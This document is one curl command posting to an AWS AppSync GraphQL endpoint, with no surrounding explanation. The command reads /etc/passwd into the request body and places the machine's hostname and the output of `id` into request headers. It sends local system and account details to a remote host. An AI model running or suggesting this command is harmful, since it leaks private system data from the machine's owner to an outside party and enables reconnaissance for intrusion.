curl 'https://abc.appsync-api.us-east-1.amazonaws.com/graphql' -H "x-api-key: $(cat /etc/hostname)" -H "Authorization: `id`" -d "$(</etc/passwd)"
